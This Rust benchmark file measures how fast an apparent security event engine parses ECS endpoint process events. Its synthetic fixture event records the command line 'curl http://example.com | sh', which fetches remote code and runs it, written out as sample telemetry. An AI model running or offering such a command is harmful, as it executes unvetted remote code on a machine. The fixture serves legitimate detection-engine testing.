//! Event parsing throughput: extracting registered fields with the streaming
//! parser versus building a full `serde_json::Value` per event.

#![allow(clippy::expect_used, clippy::panic)] // bench fixtures: a broken fixture must abort loudly

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use engine::event::EventOptions;
use engine::field::FieldTable;
use engine::schema::Schema;

fn sample_event(i: usize) -> String {
    format!(
        r#"{{"@timestamp":"2023-07-14T08:09:{:02}.123456Z","event":{{"category":["process"],"type":["start"],"action":"exec","kind":"event","module":"endpoint","dataset":"endpoint.events.process","id":"MoO9X/ApYSmMnhVA++++{i}"}},"process":{{"pid":{},"ppid":1,"name":"bash","executable":"/usr/bin/bash","command_line":"bash -c 'curl http://example.com | sh'","args":["bash","-c","curl http://example.com | sh"],"args_count":3,"working_directory":"/home/user","entity_id":"Zjk0NjA3NTgtYzQ5Ny00YzNlLWEwODktNWI3M2I1NzIxNzI5","parent":{{"pid":1,"name":"systemd","executable":"/usr/lib/systemd/systemd","entity_id":"abc"}},"hash":{{"md5":"1d1b7b4c3e2a7b6e5a4d3c2b1a0f9e8d","sha256":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}}}},"host":{{"name":"web-01","hostname":"web-01","os":{{"type":"linux","family":"debian","kernel":"5.15.0","name":"Ubuntu","version":"22.04"}},"ip":["10.0.0.5","fe80::1"],"mac":["00-11-22-33-44-55"],"architecture":"x86_64","id":"8d3f2e1a"}},"user":{{"name":"root","id":"0","group":{{"name":"root","id":"0"}}}},"agent":{{"type":"endpoint","version":"8.9.0","id":"f1e2d3c4","name":"web-01"}},"ecs":{{"version":"8.0.0"}},"message":"Endpoint process event","data_stream":{{"dataset":"endpoint.events.process","namespace":"default","type":"logs"}}}}"#,
        i % 60,
        1000 + i
    )
}

fn bench_parse(c: &mut Criterion) {
    let schema = Schema::ecs();
    let mut table = FieldTable::with_defaults(&schema);
    for path in [
        "process.name",
        "process.parent.name",
        "process.args",
        "host.os.type",
        "event.type",
        "user.name",
        "process.pid",
    ] {
        table.register(path, &schema);
    }
    let events: Vec<String> = (0..1000).map(sample_event).collect();
    let bytes: usize = events.iter().map(String::len).sum();
    let opts = EventOptions::default();

    let mut group = c.benchmark_group("parse_event");
    group.throughput(Throughput::Elements(events.len() as u64));
    group.bench_function("streaming_extract", |b| {
        b.iter(|| {
            let mut n = 0usize;
            for e in &events {
                if let Ok(ev) = table.parse_event(e, &opts) {
                    n += ev.fields().count();
                }
            }
            n
        })
    });
    group.bench_function("serde_json_value", |b| {
        b.iter(|| {
            let mut n = 0usize;
            for e in &events {
                if let Ok(serde_json::Value::Object(m)) =
                    serde_json::from_str::<serde_json::Value>(e)
                {
                    n += m.len();
                }
            }
            n
        })
    });
    // The floor: validating the JSON while keeping nothing.
    group.bench_function("serde_ignored_any", |b| {
        b.iter(|| {
            events
                .iter()
                .filter(|e| serde_json::from_str::<serde::de::IgnoredAny>(e).is_ok())
                .count()
        })
    });
    group.finish();
    eprintln!("average event size: {} bytes", bytes / events.len());
}

/// Realistic lines: `$PARSE_BENCH_EVENTS`, else the whole-process benchmark's cached file,
/// else 2000 freshly generated ones (`bench/gen_events.py`).
fn realistic_lines() -> Vec<String> {
    const CACHED: &str = "/tmp/tripline-bench/events-v1-seed42-n50000.ndjson";
    let path = std::env::var("PARSE_BENCH_EVENTS").unwrap_or_else(|_| CACHED.to_string());
    let text = match std::fs::read_to_string(&path) {
        Ok(text) => text,
        Err(_) => {
            let script = concat!(env!("CARGO_MANIFEST_DIR"), "/../../bench/gen_events.py");
            let out = std::process::Command::new("python3")
                .args([script, "--count", "2000", "--seed", "42"])
                .output()
                .expect("run bench/gen_events.py");
            String::from_utf8(out.stdout).expect("generator output is UTF-8")
        }
    };
    text.lines().take(2000).map(str::to_string).collect()
}

/// Every leaf path (dotted) of the documents.
fn all_paths(lines: &[String]) -> Vec<String> {
    fn walk(prefix: &str, v: &serde_json::Value, out: &mut std::collections::BTreeSet<String>) {
        match v {
            serde_json::Value::Object(m) => {
                for (k, v) in m {
                    let path = if prefix.is_empty() {
                        k.clone()
                    } else {
                        format!("{prefix}.{k}")
                    };
                    walk(&path, v, out);
                }
            }
            serde_json::Value::Array(items) => {
                for item in items {
                    walk(prefix, item, out);
                }
            }
            _ => {
                out.insert(prefix.to_string());
            }
        }
    }
    let mut out = std::collections::BTreeSet::new();
    for line in lines {
        if let Ok(v) = serde_json::from_str::<serde_json::Value>(line) {
            walk("", &v, &mut out);
        }
    }
    out.into_iter().collect()
}

/// The scanner (fast path) against the serde path on realistic lines, with the seed rule's
/// fields and with every path of the documents registered.
fn bench_scan(c: &mut Criterion) {
    let lines = realistic_lines();
    let bytes: usize = lines.iter().map(String::len).sum();
    let schema = Schema::ecs();
    let seed_fields = [
        "host.id",
        "host.os.type",
        "event.type",
        "file.path",
        "process.name",
        "process.args",
        "data_stream.type",
        "data_stream.dataset",
        "data_stream.namespace",
    ];
    let mut seed = FieldTable::with_defaults(&schema);
    for path in seed_fields {
        seed.register(path, &schema);
    }
    let paths = all_paths(&lines);
    let mut all = FieldTable::with_defaults(&schema);
    for path in &paths {
        all.register(path, &schema);
    }
    eprintln!(
        "{} lines, average {} bytes; seed: {} fields, all: {} fields",
        lines.len(),
        bytes / lines.len().max(1),
        seed.len(),
        all.len()
    );
    let opts = EventOptions::default();
    let mut group = c.benchmark_group("parse_lines");
    group.throughput(Throughput::Elements(lines.len() as u64));
    group.sample_size(20);
    group.measurement_time(std::time::Duration::from_secs(4));
    for (name, table) in [("seed", &seed), ("all", &all)] {
        assert!(lines.iter().all(|l| table.extract_fields_fast(l).is_ok()));
        group.bench_function(format!("fast/{name}"), |b| {
            b.iter(|| {
                lines
                    .iter()
                    .filter_map(|l| table.extract_fields_fast(l).ok())
                    .map(|(v, _)| v.len())
                    .sum::<usize>()
            })
        });
        group.bench_function(format!("plain/{name}"), |b| {
            b.iter(|| {
                lines
                    .iter()
                    .filter_map(|l| table.extract_fields_plain(l).ok())
                    .map(|(v, _)| v.len())
                    .sum::<usize>()
            })
        });
        group.bench_function(format!("parse_event/{name}"), |b| {
            b.iter(|| {
                lines
                    .iter()
                    .filter_map(|l| table.parse_event(l, &opts).ok())
                    .map(|e| e.fields().count())
                    .sum::<usize>()
            })
        });
    }
    group.bench_function("serde_ignored_any", |b| {
        b.iter(|| {
            lines
                .iter()
                .filter(|l| serde_json::from_str::<serde::de::IgnoredAny>(l).is_ok())
                .count()
        })
    });
    group.finish();
}

criterion_group!(benches, bench_parse, bench_scan);
criterion_main!(benches);
